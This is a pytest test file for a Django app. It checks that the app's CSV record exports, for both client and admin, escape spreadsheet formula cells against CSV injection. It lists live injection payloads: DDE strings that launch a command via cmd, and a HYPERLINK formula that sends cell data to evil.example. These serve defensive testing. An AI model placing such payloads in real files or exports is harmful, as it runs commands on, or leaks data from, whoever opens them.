"""The record export is safe to open in a spreadsheet (issue 13, OWASP "CSV Injection"): a
cell the client typed that begins with =, +, -, @, a tab or a carriage return gets a leading
apostrophe, in the client's ZIP and in the admin's export of the same ZIP."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import time
from decimal import Decimal

import pytest
from django.urls import reverse

from conftest import reauthenticated
from goals.services import check_in_record, comment_add, goal_create
from workspace.record import csv_cell_escape

# The classic payloads: DDE, HYPERLINK exfiltration, arithmetic that starts a formula, the @
# of Lotus-style functions, a leading tab or CR, and the full-width equal sign.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "  =1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_are_escaped(payload):
    assert csv_cell_escape(payload) == "'" + payload


@pytest.mark.parametrize("text", ["Run a 10k", "1+1=2", "email me@example.com", "", "a-b"])
def test_plain_text_is_left_alone(text):
    assert csv_cell_escape(text) == text


@pytest.fixture
def hostile_record(client_user, clinician):
    goal = goal_create(client=client_user, service_line="coaching", created_by=client_user,
                       title=PAYLOADS[0], why=PAYLOADS[1], metric=PAYLOADS[4], unit=PAYLOADS[3],
                       baseline=Decimal("-2"), target=Decimal("10"), direction="up",
                       cadence="daily", check_in_time=time(18, 0))
    check_in = check_in_record(goal=goal, by=client_user, value=Decimal("1"), note=PAYLOADS[2])
    comment_add(goal=goal, author=clinician, text=PAYLOADS[3], check_in=check_in)
    return goal


def _cells(archive: zipfile.ZipFile) -> list[str]:
    cells = []
    for name in archive.namelist():
        if name.endswith(".csv"):
            cells += [cell for row in csv.reader(io.StringIO(archive.read(name).decode()))
                      for cell in row]
    return cells


def _assert_safe(archive: zipfile.ZipFile) -> None:
    cells = _cells(archive)
    for payload in PAYLOADS[:5]:
        assert "'" + payload in cells, payload
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == ["-2.00"] or dangerous == [], dangerous  # a number stays a number


def test_client_zip_escapes_formulas(client, client_user, hostile_record):
    client.force_login(client_user)
    reauthenticated(client)
    response = client.post(reverse("account_rights:record"))
    _assert_safe(zipfile.ZipFile(io.BytesIO(response.content)))


def test_admin_export_escapes_formulas(admin_client, client_user, hostile_record):
    response = admin_client.post(reverse("admin:clients_user_changelist"), {
        "action": "export_record", "_selected_action": [str(client_user.pk)], "index": "0"})
    assert response["Content-Type"] == "application/zip"
    _assert_safe(zipfile.ZipFile(io.BytesIO(response.content)))
